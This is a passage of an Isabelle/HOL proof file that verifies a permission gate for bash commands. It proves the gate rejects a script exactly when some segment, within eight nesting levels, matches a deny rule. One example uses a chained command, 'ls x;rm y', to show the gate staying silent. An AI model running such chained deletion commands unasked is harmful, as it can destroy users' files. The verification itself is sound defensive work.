  "escalate w (policy_new w cfg) seg = Some (Reject r) \<longleftrightarrow>
     evaluate w (policy_new w cfg) (AccessBash seg) = Some (Reject r)"
  by (auto simp: escalate_def split: option.splits decision.splits)

lemma escalate_None:
  "escalate w (policy_new w cfg) seg = None \<longleftrightarrow>
     \<not> config_has w cfg (AccessBash seg) RuleDeny \<and> \<not> config_has w cfg (AccessBash seg) RuleAsk"
  using evaluate_policy_new [of w cfg "AccessBash seg"]
  by (cases "config_has w cfg (AccessBash seg) RuleDeny") (auto simp: escalate_def split: if_splits)

lemma unrestricted_no_bash_rule:
  assumes "\<not> has_bash_command_restrictions (policy_new w cfg)" "act \<in> {RuleDeny, RuleAsk}"
  shows "\<not> config_has w cfg (AccessBash seg) act"
proof
  assume "config_has w cfg (AccessBash seg) act"
  then obtain r where r: "r \<in> set (rules cfg)" "action r = act" "rule_matches w (AccessBash seg) r"
    unfolding config_has_iff by blast
  then have "tool r \<in> set [ToolBash, ToolAny]"
    by (cases "tool r") (auto simp: rule_matches_def rule_applies_def)
  with r assms show False by (auto simp: policy_new_def list_ex_iff)
qed

lemma denied_command_rejected:
  assumes "n < 8" "runs w cmd n words" "config_has w cfg (AccessBash (join_words words)) RuleDeny"
  shows "\<exists>r. evaluate_bash_command_policy w (policy_new w cfg) cmd = Some (Reject r)"
proof -
  let ?p = "policy_new w cfg"
  have restricted: "has_bash_command_restrictions ?p"
    using unrestricted_no_bash_rule assms(3) by blast
  from assms(3) obtain r where "escalate w ?p (join_words words) = Some (Reject r)"
    using evaluate_Reject_iff escalate_Reject by blast
  with segments_ge_runs [OF assms(2,1), of ?p]
  have "4 \<le> outcome_strength (evaluate_segments 8 w ?p cmd)" by simp
  then have "\<exists>r. evaluate_segments 8 w ?p cmd = Some (Reject r)"
    using escalates_strength(1) [OF escalates_segments] by blast
  with restricted show ?thesis by (simp add: evaluate_bash_command_policy_def)
qed

text \<open>
  C13. A denied command cannot be smuggled past the bash gate: the gate rejects a script exactly
  when, at one of the eight nesting levels it looks into, some segment, taken with or without its
  wrappers, is denied by the policy.
\<close>

theorem bash_gate_rejects_iff:
  "(\<exists>r. evaluate_bash_command_policy w (policy_new w cfg) cmd = Some (Reject r)) \<longleftrightarrow>
   (\<exists>n words. n < 8 \<and> runs w cmd n words \<and> config_has w cfg (AccessBash (join_words words)) RuleDeny)"
proof -
  have "\<exists>n words. n < 8 \<and> runs w cmd n words
      \<and> config_has w cfg (AccessBash (join_words words)) RuleDeny"
    if "evaluate_bash_command_policy w (policy_new w cfg) cmd = Some (Reject r)" for r
  proof -
    from that have "evaluate_segments 8 w (policy_new w cfg) cmd = Some (Reject r)"
      by (simp add: evaluate_bash_command_policy_def split: if_splits)
    from segments_reject_witness [OF this] show ?thesis
      using escalate_Reject evaluate_Reject_iff by blast
  qed
  then show ?thesis using denied_command_rejected by blast
qed

text \<open>
  The bash gate only restricts, and its silence is a guarantee: it never allows, and when it
  has no opinion, no command of the script at any nesting matches a deny or ask rule, and (if there
  are such rules at all) no script in it, however deep, is one that could not be decomposed.
\<close>

lemma bash_gate_silent:
  "escalates (evaluate_bash_command_policy w (policy_new w cfg) cmd)
   \<and> (evaluate_bash_command_policy w (policy_new w cfg) cmd = None \<longrightarrow>
       (\<forall>n words. runs w cmd n words \<longrightarrow>
          \<not> config_has w cfg (AccessBash (join_words words)) RuleDeny
          \<and> \<not> config_has w cfg (AccessBash (join_words words)) RuleAsk)
       \<and> (has_bash_command_restrictions (policy_new w cfg) \<longrightarrow> (\<forall>n. \<not> opaque_at w cmd n)))"
proof (cases "has_bash_command_restrictions (policy_new w cfg)")
  case False
  then show ?thesis
    using unrestricted_no_bash_rule by (simp add: evaluate_bash_command_policy_def)
next
  case True
  let ?p = "policy_new w cfg"
  have quiet: "escalate w ?p (join_words words) = None"
    if "evaluate_segments 8 w ?p cmd = None" "runs w cmd n words" for n words
  proof (cases "n < 8")
    case True
    with segments_ge_runs [OF that(2), of 8 ?p] that(1)
    show ?thesis by (cases "escalate w ?p (join_words words)") auto
  next
    case False
    with segments_ge_deep [OF that(2), of 8 ?p] that(1) show ?thesis by simp
  qed
  have "\<not> opaque_at w cmd n" if "evaluate_segments 8 w ?p cmd = None" for n
    using segments_ge_opaque [of w cmd n 8 ?p] that by auto
  with True quiet escalates_segments show ?thesis
    by (auto simp: evaluate_bash_command_policy_def escalate_None)
qed

lemma bash_gate_silent_example:
  "evaluate_bash_command_policy example_world (policy_new example_world example_config)
     ''ls x;rm y'' = None
   \<and> \<not> (\<exists>n words. runs example_world ''ls x;rm y'' n words
        \<and> config_has example_world example_config (AccessBash (join_words words)) RuleDeny)"
proof -
  have "evaluate_bash_command_policy example_world (policy_new example_world example_config)
     ''ls x;rm y'' = None"
    by code_simp
  with bash_gate_silent [of example_world example_config "''ls x;rm y''"] show ?thesis by blast
qed

lemma policy_opinion_evaluate: "policy_opinion (evaluate w p access)"
proof -
  have "policy_opinion (evaluate_rules w access rs ma ml)" for rs ma ml
    using evaluate_rules_cases [of w access rs ma ml]
    by (auto simp: policy_opinion_def split: if_splits)
  then show ?thesis by (simp add: evaluate_def)
qed

interpretation bash_gate: tightening_gate "evaluate_bash_command_policy w p" for w p
  by unfold_locales (simp add: evaluate_bash_command_policy_def escalates_segments)

end
